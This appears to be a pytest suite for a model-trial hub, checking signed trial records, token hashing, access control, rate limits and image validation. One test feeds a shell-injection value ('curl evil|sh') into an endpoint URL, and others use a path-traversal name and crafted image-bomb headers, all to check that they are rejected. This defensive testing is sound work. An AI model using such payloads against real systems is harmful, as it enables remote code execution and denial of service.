"""Trying a model by the hub: what it writes to the cluster, what it keeps to itself, and who may see what."""

from __future__ import annotations

import asyncio
import hashlib
import io
import json
import zlib
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx2
import pytest
from aiohttp import web
from PIL import Image

import openid
from hub_sites import URL, Site, hidden, service
from pelagos.api.trial import TrialSpec
from pelagos.ports.errors import OutageError, RejectedError
from pelagos_contract import kserve_v2, trial_signature
from pelagos_hub.login.identity import Person

KEY = b"k" * 32
ALICE = Person("a" * 16, "Alice Seashore", frozenset({openid.OLD_GROUP, "urn:group:private"}))
MALLORY = Person("b" * 16, "Mallory")
OURS = {"Origin": URL}


@pytest.fixture
def site(tmp_path: Path) -> Site:
    """A hub with a key, and a model that may be tried."""
    key = tmp_path / "key"
    key.write_bytes(KEY)
    made = Site(signing_key_file=key, attested_entitlements=f"{openid.GROUP} urn:group:other")
    made.cluster.put(service("plankton", model={"name": "plankton"}))
    made.cluster.put(service("hidden", publish="Private"))
    return made


@pytest.fixture
async def alice(site: Site) -> AsyncIterator[httpx2.AsyncClient]:
    """A browser in which Alice is logged in."""
    async with site.signed_in(ALICE) as made:
        yield made


@pytest.fixture
async def mallory(site: Site) -> AsyncIterator[httpx2.AsyncClient]:
    """A browser of somebody else."""
    async with site.signed_in(MALLORY) as made:
        yield made


async def csrf(visitor: httpx2.AsyncClient) -> str:
    return hidden((await visitor.get("/me")).text)


async def ask(visitor: httpx2.AsyncClient, name: str = "plankton") -> httpx2.Response:
    form = {"csrf": await csrf(visitor), "namespace": "reef", "service": name}
    return await visitor.post("/trials", data=form, headers=OURS)


def opened(site: Site, trial: dict[str, Any], http: str, seconds: float = 600.0, phase: str = "Open") -> dict[str, Any]:
    """A trial's status as the operator reports it."""
    status = {
        "phase": phase,
        "attested": True,
        "duration": "10m",
        "expiresAt": (site.clock.now() + timedelta(seconds=seconds)).isoformat().replace("+00:00", "Z"),
        "endpoints": {"http": http, "grpc": "127.0.0.1:1"},
        "url": http,
        "service": {"name": "plankton", "namespace": "reef"},
        "conditions": [
            {"type": "Accepted", "status": "True", "reason": "Admitted", "message": ""},
            {"type": "Ready", "status": "True", "reason": phase, "message": ""},
        ],
    }
    return {**trial, "status": status}


def only_trial(site: Site) -> dict[str, Any]:
    (found,) = site.cluster.trials().objects.values()
    return dict(found)


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30)) -> bytes:
    stream = io.BytesIO()
    Image.new("RGB", size, "teal").save(stream, kind)
    return stream.getvalue()


async def test_a_trial_is_signed_and_says_no_more_than_it_must(site: Site, alice: httpx2.AsyncClient) -> None:
    answer = await ask(alice)

    made = only_trial(site)
    name, spec = made["metadata"]["name"], made["spec"]
    assert answer.status_code == 303
    assert answer.headers["location"] == f"/trials/reef/{name}"
    assert TrialSpec.model_validate(spec).model_service_ref is not None
    assert spec["user"] == ALICE.key
    assert spec["displayName"] == "Alice Seashore"
    # In the form that the installation uses, although the provider sends another.
    assert spec["entitlements"] == [openid.GROUP]
    signature = made["metadata"]["annotations"][trial_signature.ANNOTATION]
    assert trial_signature.holds(KEY, signature, namespace="reef", name=name, spec=spec, created=site.clock.now())
    assert "urn:group:private" not in json.dumps(made)


async def test_the_token_is_told_to_its_user_and_the_cluster_has_its_digest(
    site: Site, alice: httpx2.AsyncClient
) -> None:
    path = (await ask(alice)).headers["location"]
    site.cluster.put(opened(site, only_trial(site), "http://127.0.0.1:1/reef/plankton"))
    page = (await alice.get(path)).text

    token = page.partition("export TOKEN=")[2].partition("\n")[0]
    assert token.startswith("pt_")
    assert len(token) == 46
    assert only_trial(site)["spec"]["tokenSha256"] == hashlib.sha256(token.encode()).hexdigest()
    assert token not in json.dumps(only_trial(site))
    assert "http://127.0.0.1:1/reef/plankton/v2/models/plankton/infer" in page


async def test_what_is_not_published_or_not_there_cannot_be_tried(site: Site, alice: httpx2.AsyncClient) -> None:
    for name in ("hidden", "absent", "../../secrets/x"):
        assert (await ask(alice, name)).status_code == 404
    assert not site.cluster.trials().objects


async def test_two_clicks_are_one_trial(site: Site, alice: httpx2.AsyncClient) -> None:
    token = await csrf(alice)
    form = {"csrf": token, "namespace": "reef", "service": "plankton"}
    answers = await asyncio.gather(*(alice.post("/trials", data=form, headers=OURS) for _ in range(8)))

    assert {answer.headers["location"] for answer in answers} == {
        f"/trials/reef/{only_trial(site)['metadata']['name']}"
    }


async def test_nobody_fills_the_cluster_with_trials_that_are_refused(site: Site, alice: httpx2.AsyncClient) -> None:
    form = {"csrf": await csrf(alice), "namespace": "reef", "service": "plankton"}
    statuses = []
    for _ in range(22):
        statuses.append((await alice.post("/trials", data=form, headers=OURS)).status_code)
        for name, trial in site.cluster.trials().objects.items():
            site.cluster.kinds["Trial"][name] = {**trial, "status": {"phase": "Refused"}}

    assert statuses == [303] * 20 + [429] * 2
    assert len(site.cluster.trials().objects) == 20
    site.clock.seconds += 600
    assert (await alice.post("/trials", data=form, headers=OURS)).status_code == 303


async def test_nobody_sees_or_stops_the_trials_of_others(
    site: Site, alice: httpx2.AsyncClient, mallory: httpx2.AsyncClient
) -> None:
    path = (await ask(alice)).headers["location"]
    token = await csrf(mallory)
    image = {"image": ("x.png", picture(), "image/png")}

    assert (await mallory.get(path)).status_code == 404
    assert (await mallory.get(f"{path}/status.json")).status_code == 404
    assert (await mallory.post(f"{path}/stop", data={"csrf": token}, headers=OURS)).status_code == 404
    sent = await mallory.post(f"{path}/predict", data={"csrf": token}, files=image, headers=OURS)
    assert sent.status_code == 404
    assert "plankton" not in (await mallory.get("/me")).text
    async with site.visitor() as stranger:
        assert (await stranger.get(path)).status_code == 401
        assert (await stranger.get("/me")).headers["location"] == "/login?next=/me"
        assert (await stranger.post(f"{path}/stop", headers=OURS)).status_code == 401
    assert only_trial(site)


async def test_the_way_to_an_open_trial_is_shown_by_what_is_true(site: Site, alice: httpx2.AsyncClient) -> None:
    path = (await ask(alice)).headers["location"]

    async def steps() -> list[str]:
        told = (await alice.get(f"{path}/status.json")).json()
        return [step["state"] for step in told["steps"]]

    assert await steps() == ["Done", "Current", "Waiting", "Waiting"]
    assert '<noscript><meta http-equiv="refresh"' in (await alice.get(path)).text
    made = only_trial(site)
    admitted = {"type": "Accepted", "status": "True", "reason": "Admitted", "message": ""}
    site.cluster.put({**made, "status": {"phase": "Starting", "conditions": [admitted]}})
    assert await steps() == ["Done", "Done", "Done", "Current"]
    site.cluster.put(opened(site, made, "http://127.0.0.1:1"))
    assert await steps() == ["Done"] * 4
    told = (await alice.get(f"{path}/status.json")).json()
    assert told["secondsLeft"] == 600
    assert told["canSend"] is True
    assert '<noscript><meta http-equiv="refresh"' not in (await alice.get(path)).text


async def test_a_refusal_is_told_with_its_reason_and_may_be_asked_again(site: Site, alice: httpx2.AsyncClient) -> None:
    path = (await ask(alice)).headers["location"]
    message = "bbb has 3 of 3 trials: <b>stop</b> one"
    refused = {"type": "Accepted", "status": "False", "reason": "UserLimit", "message": message}
    site.cluster.put({**only_trial(site), "status": {"phase": "Refused", "conditions": [refused]}})

    page = (await alice.get(path)).text
    assert "3 of 3 trials" in page
    assert "<b>stop</b>" not in page
    assert "Try again" in page
    assert "UserLimit" in (await alice.get("/me")).text
    assert (await ask(alice)).headers["location"] != path


async def test_the_countdown_is_no_longer_than_the_trial_whatever_the_clock_says(
    site: Site, alice: httpx2.AsyncClient
) -> None:
    path = (await ask(alice)).headers["location"]
    site.cluster.put(opened(site, only_trial(site), "http://127.0.0.1:1"))
    site.clock.moment = datetime(2020, 1, 1, tzinfo=UTC)
    assert (await alice.get(f"{path}/status.json")).json()["secondsLeft"] == 600
    site.clock.moment = datetime(2030, 1, 1, tzinfo=UTC)
    told = (await alice.get(f"{path}/status.json")).json()
    assert told["secondsLeft"] is None
    assert told["phase"] == "Expired"
    assert told["canSend"] is False


async def test_stopping_deletes_this_very_trial(site: Site, alice: httpx2.AsyncClient) -> None:
    path = (await ask(alice)).headers["location"]
    answer = await alice.post(f"{path}/stop", data={"csrf": await csrf(alice)}, headers=OURS)
    assert answer.headers["location"] == "/me"
    assert not site.cluster.trials().objects


@pytest.mark.parametrize(
    ("refusal", "status", "words", "result"),
    [
        (OutageError("kubernetes", "POST: 503"), 503, "The cluster does not answer", "Failed"),
        (RejectedError("kubernetes", "no quota <b>left</b>"), 409, "The cluster refused this", "Refused"),
    ],
)
async def test_when_the_cluster_cannot_or_will_not_the_page_says_so(
    site: Site, alice: httpx2.AsyncClient, refusal: Exception, status: int, words: str, result: str
) -> None:
    site.cluster.refusal = refusal
    answer = await ask(alice)

    assert answer.status_code == status
    assert words in answer.text
    assert "<b>" not in answer.text
    assert site.hub.metrics.registry.get_sample_value("pelagos_hub_trials_total", {"result": result}) == 1


async def test_without_its_key_the_hub_makes_nothing(site: Site, alice: httpx2.AsyncClient) -> None:
    assert site.hub.settings.signing_key_file is not None
    site.hub.settings.signing_key_file.write_bytes(b"short")
    answer = await ask(alice)
    assert answer.status_code == 503
    assert "PELAGOS_HUB_SIGNING_KEY_FILE" in answer.text
    assert not site.cluster.trials().objects


async def test_another_session_of_the_same_person_sees_the_trial_and_not_the_token(
    site: Site, alice: httpx2.AsyncClient
) -> None:
    path = (await ask(alice)).headers["location"]
    site.cluster.put(opened(site, only_trial(site), "http://127.0.0.1:1"))
    async with site.signed_in(ALICE) as elsewhere:
        page = (await elsewhere.get(path)).text
        assert "pt_" not in page
        assert "Another browser session" in page
        image = {"image": ("x.png", picture(), "image/png")}
        sent = await elsewhere.post(f"{path}/predict", data={"csrf": await csrf(elsewhere)}, files=image, headers=OURS)
        assert sent.status_code == 409
        # Nor is somebody who lost it locked out: asking again begins another trial.
        assert (await ask(elsewhere)).headers["location"] != path


class Gateway:
    """Answers like a model server behind the gateway; records the requests."""

    def __init__(self) -> None:
        self.url = ""
        self.asked: list[tuple[str, str, bytes]] = []
        self.status = 200
        self.answer: Any = {"task": "Detection", "width": 40, "height": 30, "detections": [{"label": "<script>"}]}
        self.waiting: asyncio.Event | None = None

    async def infer(self, request: web.Request) -> web.Response:
        body = await request.read()
        self.asked.append((request.path, request.headers["Authorization"], body))
        if self.waiting is not None:
            await self.waiting.wait()
        if self.status != 200:
            return web.json_response({"error": "the token is none of an open trial"}, status=self.status)
        text = json.dumps(self.answer) if not isinstance(self.answer, str) else self.answer
        outputs = [{"name": "prediction", "datatype": "BYTES", "shape": [1, 1], "data": [text]}]
        return web.json_response({"outputs": outputs})

    async def ready(self, _request: web.Request) -> web.Response:
        return web.Response()


@pytest.fixture
async def gateway() -> AsyncIterator[Gateway]:
    made = Gateway()
    application = web.Application(client_max_size=2**27)
    application.router.add_get("/reef/plankton/v2/models/plankton/ready", made.ready)
    application.router.add_post("/reef/plankton/v2/models/plankton/infer", made.infer)
    runner = web.AppRunner(application, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    made.url = f"http://127.0.0.1:{runner.addresses[0][1]}/reef/plankton"
    yield made
    await runner.cleanup()


@pytest.fixture
async def path(site: Site, alice: httpx2.AsyncClient, gateway: Gateway) -> str:
    """The path of an open trial."""
    found = (await ask(alice)).headers["location"]
    site.cluster.put(opened(site, only_trial(site), gateway.url))
    return str(found)


async def send(visitor: httpx2.AsyncClient, path: str, content: bytes, *, suffix: str = ".json") -> httpx2.Response:
    files = {"image": ("reef.png", content, "image/png")}
    return await visitor.post(f"{path}/predict{suffix}", data={"csrf": await csrf(visitor)}, files=files, headers=OURS)


async def test_an_image_goes_through_the_gateway_with_the_token_of_the_trial(
    site: Site, alice: httpx2.AsyncClient, gateway: Gateway, path: str
) -> None:
    content = picture()
    answer = await send(alice, path, content)

    assert answer.json()["prediction"] == gateway.answer
    assert answer.json()["image"] == {"width": 40, "height": 30, "bytes": len(content)}
    ((_, authorization, body),) = gateway.asked
    digest = hashlib.sha256(authorization.removeprefix("Bearer ").encode()).hexdigest()
    assert digest == only_trial(site)["spec"]["tokenSha256"]
    assert body == kserve_v2.request(content, {})[1]


async def test_without_a_script_the_answer_is_a_page_with_the_image_in_it(alice: httpx2.AsyncClient, path: str) -> None:
    page = (await send(alice, path, picture(), suffix="")).text
    assert "data:image/png;base64," in page
    assert "reef.png" in page
    assert "<script>" not in page


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "TIFF", "BMP", "WEBP", "JPEG2000"])
async def test_images_of_all_kinds_that_models_take_are_sent(
    alice: httpx2.AsyncClient, gateway: Gateway, path: str, kind: str
) -> None:
    answer = await send(alice, path, picture(kind))
    assert answer.status_code == 200, answer.text
    assert answer.json()["image"]["width"] == 40


def header_of(width: int, height: int) -> bytes:
    """The beginning of a PNG of this size, without any pixels."""
    whole = picture()
    chunk = whole[12:16] + width.to_bytes(4, "big") + height.to_bytes(4, "big") + whole[24:29]
    return whole[:12] + chunk + zlib.crc32(chunk).to_bytes(4, "big") + whole[33:]


def webp_of(width: int, height: int) -> bytes:
    """A WebP that claims to be of this size."""
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF\x20\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + size


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "No image was sent"),
        (b"%PDF-1.7", "not an image of an accepted kind"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "not an image of an accepted kind"),
        (b"GIF89a" + b"\0" * 40, "not an image of an accepted kind"),
        (picture()[:20], "damaged"),
        (b"II*\0" + b"\xff" * 40, "damaged"),
        (b"RIFF\x20\0\0\0WEBPVP8 ", "damaged"),
        (header_of(12_000, 9_000), "at most 100 million"),
        (header_of(2**31 - 1, 2**31 - 1), "million"),
        (webp_of(16_000, 16_000), "at most 100 million"),
    ],
    ids=["none", "PDF", "SVG", "GIF", "cut", "broken TIFF", "broken WebP", "bomb", "huge bomb", "WebP bomb"],
)
async def test_what_is_no_image_or_too_large_goes_nowhere(
    alice: httpx2.AsyncClient, gateway: Gateway, path: str, content: bytes, words: str
) -> None:
    answer = await send(alice, path, content)
    assert answer.status_code == 422
    assert words in answer.json()["error"]["advice"]
    assert not gateway.asked


async def test_more_than_64_mib_is_refused_before_it_is_read(
    alice: httpx2.AsyncClient, gateway: Gateway, path: str
) -> None:
    answer = await send(alice, path, b"\x89PNG\r\n\x1a\n" + bytes(65 * 2**20))
    assert answer.status_code == 413
    assert not gateway.asked


@pytest.mark.parametrize(
    ("status", "answer", "words"),
    [
        (401, None, "does not admit us: HTTP 401 the token is none of an open trial"),
        (503, None, "no server behind"),
        (200, "no JSON", "not JSON"),
        (200, {"error": "the image is blank"}, "the image was refused: the image is blank"),
        (200, "x" * (33 * 2**20), "more than"),
    ],
    ids=["expired meanwhile", "server away", "nonsense", "refused by the model", "endless"],
)
async def test_when_the_model_does_not_answer_the_page_says_why(
    alice: httpx2.AsyncClient, gateway: Gateway, path: str, status: int, answer: Any, words: str
) -> None:
    gateway.status, gateway.answer = status, answer if answer is not None else gateway.answer
    told = await send(alice, path, picture())
    assert told.status_code == 502
    assert words in told.json()["error"]["advice"]
    assert "pt_" not in told.text


async def test_one_person_has_one_image_on_its_way_and_holds_up_nobody_else(
    site: Site, alice: httpx2.AsyncClient, gateway: Gateway, path: str
) -> None:
    gateway.waiting = asyncio.Event()
    token = await csrf(alice)
    files = {"image": ("x.png", picture(), "image/png")}
    first = asyncio.create_task(alice.post(f"{path}/predict.json", data={"csrf": token}, files=files, headers=OURS))
    async with asyncio.timeout(10):
        while not gateway.asked:  # noqa: ASYNC110
            await asyncio.sleep(0.01)
    second = await alice.post(f"{path}/predict.json", data={"csrf": token}, files=files, headers=OURS)
    assert second.status_code == 429
    gateway.waiting.set()
    assert (await first).status_code == 200


async def test_after_the_end_no_image_is_sent(
    site: Site, alice: httpx2.AsyncClient, gateway: Gateway, path: str
) -> None:
    site.clock.moment += timedelta(seconds=601)
    answer = await send(alice, path, picture())
    assert answer.status_code == 409
    assert not gateway.asked


async def test_an_address_that_a_shell_would_obey_is_not_shown_as_a_command(
    site: Site, alice: httpx2.AsyncClient, gateway: Gateway, path: str
) -> None:
    trial = only_trial(site)
    trial["status"]["endpoints"]["http"] = "http://x/';curl evil|sh;'"
    site.cluster.put(trial)
    assert "curl evil" not in (await alice.get(path)).text


@pytest.mark.parametrize("decided", [True, False])
async def test_what_somebody_wrote_by_hand_in_anothers_name_is_none_of_theirs(
    site: Site, alice: httpx2.AsyncClient, *, decided: bool
) -> None:
    await ask(alice)
    hers = only_trial(site)
    metadata = {
        **hers["metadata"],
        "name": "forged",
        "uid": "forged",
        "creationTimestamp": site.clock.now().isoformat(),
    }
    forged = {**hers, "metadata": metadata}
    del site.cluster.kinds["Trial"]["reef", hers["metadata"]["name"]]
    if decided:
        forged = opened(site, forged, "http://127.0.0.1:1/reef/plankton")
        forged["status"]["attested"] = False
    site.cluster.put(forged)

    assert "You have tried nothing yet" in (await alice.get("/me")).text
    token = hidden((await alice.get("/models/reef/plankton")).text)
    assert (await alice.get("/trials/reef/forged")).status_code == 404
    assert "already" not in (await alice.get("/models/reef/plankton")).text
    assert (await alice.post("/trials/reef/forged/stop", data={"csrf": token}, headers=OURS)).status_code == 404


async def test_before_the_operator_has_looked_the_signature_says_whose_a_trial_is(
    site: Site, alice: httpx2.AsyncClient
) -> None:
    path = (await ask(alice)).headers["location"]
    made = only_trial(site)
    site.cluster.put({**made, "metadata": {**made["metadata"], "creationTimestamp": site.clock.now().isoformat()}})
    async with site.signed_in(ALICE) as elsewhere:
        assert (await elsewhere.get(path)).status_code == 200
        assert "already" in (await elsewhere.get("/models/reef/plankton")).text


async def test_a_hub_that_was_restarted_knows_the_trials_and_asks_to_sign_in_again(
    site: Site, alice: httpx2.AsyncClient, path: str
) -> None:
    reborn = Site()
    reborn.cluster.put(only_trial(site))
    reborn.cluster.put(service("plankton", model={"name": "plankton"}))
    async with reborn.visitor(cookies=alice.cookies) as visitor:
        assert (await visitor.get(path)).status_code == 401
    async with reborn.signed_in(ALICE) as again:
        assert "plankton" in (await again.get("/me")).text
        stopped = await again.post(f"{path}/stop", data={"csrf": await csrf(again)}, headers=OURS)
        assert stopped.status_code == 303
    assert not reborn.cluster.trials().objects


async def test_the_page_of_a_model_offers_a_trial_or_says_why_not(
    site: Site, alice: httpx2.AsyncClient, mallory: httpx2.AsyncClient
) -> None:
    async with site.visitor() as stranger:
        page = (await stranger.get("/models/reef/plankton")).text
        assert "Sign in to try it" in page
        assert 'href="/login?next=/models/reef/plankton"' in page
    page = (await alice.get("/models/reef/plankton")).text
    form = {name: hidden(page, name) for name in ("namespace", "service")} | {"csrf": hidden(page)}
    path = (await alice.post("/trials", data=form, headers=OURS)).headers["location"]
    assert f'href="{path}"' in (await alice.get("/models/reef/plankton")).text
    assert "already" not in (await mallory.get("/models/reef/plankton")).text
    site.cluster.put(service("seagrass"))
    assert (
        "1 trial open in reef; how many may be open at once is unknown"
        in (await alice.get("/models/reef/seagrass")).text
    )
    assert "of yours" not in (await mallory.get("/models/reef/seagrass")).text

    failing = service("plankton")
    failing["status"]["conditions"][0] |= {"status": "False", "reason": "ProbeFailed"}
    site.cluster.put(failing)
    assert "does not answer correctly" in (await mallory.get("/models/reef/plankton")).text


async def test_what_a_namespace_publishes_for_itself_is_tried_by_its_members_alone(tmp_path: Path) -> None:
    site = Site(namespace_entitlement="urn:group:{namespace}")
    site.cluster.put(service("plankton", publish="Namespace"))
    async with site.signed_in(MALLORY) as stranger:
        assert (await ask(stranger)).status_code == 404
    async with site.signed_in(Person("c" * 16, "Carol", frozenset({"urn:group:reef"}))) as member:
        assert (await ask(member)).status_code == 303


async def test_pages_say_how_many_trials_are_open_of_how_many(site: Site, alice: httpx2.AsyncClient) -> None:
    limit: dict[str, Any] = {"trials": {"perUser": 2, "atOnce": 5}}
    for name in ("plankton", "larvae", "fish"):
        site.cluster.put(service(name, model={"name": name}, **limit))
    assert "0 of 2 trials open in reef." in (await alice.get("/models/reef/larvae")).text
    begun = await ask(alice)
    for path in ("/me", begun.headers["location"], "/models/reef/larvae"):
        assert "1 of 2 trials open in reef" in (await alice.get(path)).text, path
    await ask(alice, "larvae")
    page = (await alice.get("/models/reef/fish")).text
    assert "2 of 2 trials open in reef: stop one of them first." in page
    assert 'action="/trials"' not in page
    for each in list(site.cluster.trials().objects.values()):
        site.cluster.put({**each, "status": {"phase": "Expired", "attested": True}})
    page = (await alice.get("/me")).text
    assert "trials open" not in page, "what is over takes no place"


@pytest.mark.parametrize("told", [{}, {"perUser": "3"}, {"perUser": -1}, {"perUser": True}, "text"])
async def test_a_limit_that_is_not_known_is_said_to_be_unknown(
    site: Site, alice: httpx2.AsyncClient, told: object
) -> None:
    site.cluster.put(service("plankton", model={"name": "plankton"}, trials=told))
    begun = await ask(alice)
    for path in ("/me", begun.headers["location"]):
        assert "1 trial open in reef; how many may be open at once is unknown" in (await alice.get(path)).text, path
    # While settings change, services may differ for a moment.
    site.cluster.put(service("larvae", trials={"perUser": 2, "atOnce": 5}))
    site.cluster.put(service("fish", trials={"perUser": 4, "atOnce": 5}))
    assert "is unknown" in (await alice.get("/me")).text


async def test_models_of_a_group_without_trials_are_not_offered(site: Site, alice: httpx2.AsyncClient) -> None:
    site.cluster.put(service("plankton", model={"name": "plankton"}, trials={"perUser": 0, "atOnce": 0}))
    page = (await alice.get("/models/reef/plankton")).text
    assert "Models of this group cannot be tried." in page
    assert 'action="/trials"' not in page
